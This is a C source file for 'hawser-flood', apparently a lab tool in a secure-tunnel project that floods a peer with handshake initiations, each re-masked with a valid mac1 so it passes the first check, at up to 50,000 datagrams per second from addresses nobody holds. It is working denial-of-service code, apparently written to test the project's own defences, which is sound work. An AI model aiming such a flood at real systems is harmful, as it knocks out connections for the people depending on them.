/* hawser-flood: handshake initiations with a valid mac1 from addresses that nobody has.
 *
 * Theory of operation. What an attacker can do who knows an agent's public key but is not its peer. INITS_COUNT
 * initiations are made with an identity of our own (that part costs public-key operations); each datagram is then
 * another copy of one of them, with its own salt, mask and mac1, so that every one passes the first check and no two
 * are equal. How they leave, and the limits: raw.h. */
#include "lab/raw.h"
#include "session/handshake.h"
#include "sys/clock.h"

#include <stdio.h>

#define INITS_COUNT 64
#define COPIES_COUNT 16384 /* chosen: made in less than a second; a third of a second of 50,000/s */

struct copy {
    size_t len;
    uint8_t data[HANDSHAKE_MAX];
};

struct flood {
    struct handshake_init inits[INITS_COUNT];
    struct copy copies[COPIES_COUNT];
    size_t next;
    struct handshake_mask mask;
    struct rng rng;
};

static int make_inits(struct flood *f, const struct peer_key *peer)
{
    static const uint8_t psk[32];
    const struct rng kernel = sys_rng();
    struct hello hello = { .flags = HELLO_FLAG_OPENER, .suites = suite_supported(), .features = FEATURES_KNOWN };
    struct identity self;
    int r = identity_generate(&self, &kernel);

    handshake_mask_init(&f->mask, peer->x25519);
    for (int i = 0; r == 0 && i < INITS_COUNT; i++)
        r = handshake_init_make(&f->inits[i], &self, peer, psk, suite_choose(hello.suites, peer->suites), &hello, NULL,
                                &kernel);
    identity_wipe(&self);
    for (size_t i = 0; r == 0 && i < COPIES_COUNT; i++) {
        struct copy *c = &f->copies[i];
        uint8_t mac1[MAC1_LEN];

        c->len = handshake_init_write(&f->inits[i % INITS_COUNT], &f->mask, &f->rng, c->data, mac1);
    }
    return r;
}

static size_t payload(void *ctx, struct raw *r, uint8_t *out, uint32_t *source, uint16_t *port)
{
    struct flood *f = ctx;
    const struct copy *c = &f->copies[f->next++ % COPIES_COUNT];

    memcpy(out, c->data, c->len);
    return c->len;
}

int main(int argc, char **argv)
{
    static struct flood f;
    struct peer_key peer = { 0 };
    const char *key;
    struct raw raw;
    int r = raw_open(&raw, "hawser-flood", argc, argv, "key", 50000, &key);

    if (r != 0)
        return r;
    f.rng = prng_rng(&raw.prng);
    r = peer_key_decode(key, &peer) < 0 ? 2 : make_inits(&f, &peer) < 0 ? 1 : 0;
    if (r == 0) {
        raw_run(&raw, payload, &f);
        putchar('{');
        raw_report(&raw);
    } else {
        fprintf(stderr, "hawser-flood: %s\n", r == 2 ? "--key: expected a public key" : "cannot make a handshake");
    }
    raw_close(&raw);
    return r;
}
